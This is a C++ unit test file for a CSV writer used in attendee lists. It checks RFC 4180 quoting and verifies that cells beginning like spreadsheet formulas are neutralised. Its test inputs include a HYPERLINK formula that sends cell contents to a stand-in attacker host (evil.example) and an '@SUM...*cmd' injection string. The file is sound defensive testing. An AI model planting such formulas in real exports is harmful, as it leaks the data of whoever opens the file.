// The one CSV writer (src/domain/csv): RFC 4180 quoting, and no cell a spreadsheet would run as a
// formula, in the attendee list (`registrations --csv`) as in the report.
#include <gtest/gtest.h>

#include "domain/csv.hpp"
#include "test_support.hpp"

using namespace bk;

TEST(Csv, QuotesWhatNeedsQuotingAndNothingElse) {
  EXPECT_EQ(csv_field("Jan"), "Jan");
  EXPECT_EQ(csv_field(""), "");
  EXPECT_EQ(csv_field("06 1234 5678"), "06 1234 5678");
  EXPECT_EQ(csv_field("de Vries, Marie"), "\"de Vries, Marie\"");
  EXPECT_EQ(csv_field("Marie \"Mies\""), "\"Marie \"\"Mies\"\"\"");
  EXPECT_EQ(csv_field("twee\nregels"), "\"twee\nregels\"");
  EXPECT_EQ(csv_row({"a", "b,c", ""}), "a,\"b,c\",");
}

TEST(Csv, ACellThatStartsLikeAFormulaIsText) {
  for (const char* start : {"=", "+", "-", "@", "\t", "\r"}) {
    const std::string v = std::string(start) + "1+1";
    const std::string f = csv_field(v);
    ASSERT_FALSE(f.empty());
    const char first = f[0] == '"' ? f[1] : f[0];
    EXPECT_EQ(first, '\'') << f;
  }
  EXPECT_EQ(csv_field("=SUM(A1:A9)"), "'=SUM(A1:A9)");
  EXPECT_EQ(csv_field("=HYPERLINK(\"http://evil.example/?\"&A3,\"Klik\")"),
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A3,\"\"Klik\"\")\"");
  EXPECT_EQ(csv_field("Anne-Marie"), "Anne-Marie");  // only the first character counts
}

TEST(Csv, AttendeeListThroughTheCliHasNoFormula) {
  const auto path = bk::test::temp_path("csv_cli").string();
  const std::string base = "--db " + path + " --now 2027-03-01T09:00 ";
  ASSERT_EQ(bk::test::run_ctl(base + "activity add --title Koersbal --start 2027-03-02T10:00 "
                                     "--end 2027-03-02T11:00 --capacity 20").code, 0);
  const auto r1 = bk::test::run_ctl(
      base + "register 1 --name '=HYPERLINK(\"http://evil.example/?\"&A3,\"Klik\")' --phone '+31 6 12345678'");
  ASSERT_EQ(r1.code, 0) << r1.out;
  const auto r2 = bk::test::run_ctl(base + "register 1 --name '@SUM(1+1)*cmd'");
  ASSERT_EQ(r2.code, 0) << r2.out;
  const auto csv = bk::test::run_ctl(base + "registrations 1 --csv");
  ASSERT_EQ(csv.code, 0) << csv.out;
  EXPECT_NE(csv.out.find("\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A3,\"\"Klik\"\")\",1,'+31 6 12345678,"),
            std::string::npos) << csv.out;
  EXPECT_NE(csv.out.find("\r\n'@SUM(1+1)*cmd,1,,"), std::string::npos) << csv.out;
  // No line, and no field after a comma, starts with a formula character.
  for (const char* bad : {"\n=", "\n\"=", "\n@", "\n+", ",=", ",+", ",@", ",-", ",\"="})
    EXPECT_EQ(csv.out.find(bad), std::string::npos) << bad << " in " << csv.out;
  for (const char* s : {"", "-wal", "-shm"}) std::filesystem::remove(path + s);
}
